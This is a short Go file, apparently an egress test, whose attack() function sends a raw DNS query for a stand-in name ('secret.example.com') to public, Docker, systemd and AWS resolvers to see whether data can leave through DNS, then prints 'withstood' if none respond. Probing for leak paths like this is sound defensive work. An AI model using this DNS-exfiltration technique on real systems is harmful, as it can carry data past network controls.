package main

import (
	"fmt"
	"net"
	"time"
)

func attack() {
	// A name server needs no answer to be told something.
	through := ""
	for _, server := range []string{"8.8.8.8:53", "127.0.0.11:53", "127.0.0.53:53", "169.254.169.253:53", "[2001:4860:4860::8888]:53"} {
		for _, network := range []string{"udp", "tcp"} {
			out, err := net.DialTimeout(network, server, time.Second)
			if err != nil {
				continue
			}
			out.SetDeadline(time.Now().Add(200 * time.Millisecond))
			out.Write([]byte("\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x03com\x00\x00\x01\x00\x01"))
			if read, _ := out.Read(make([]byte, 512)); read > 0 || network == "tcp" {
				through += server + " "
			}
		}
	}
	if names, err := net.LookupHost("secret.example.com"); err == nil {
		through += names[0]
	}
	if through == "" {
		through = "withstood"
	}
	fmt.Println(through)
}
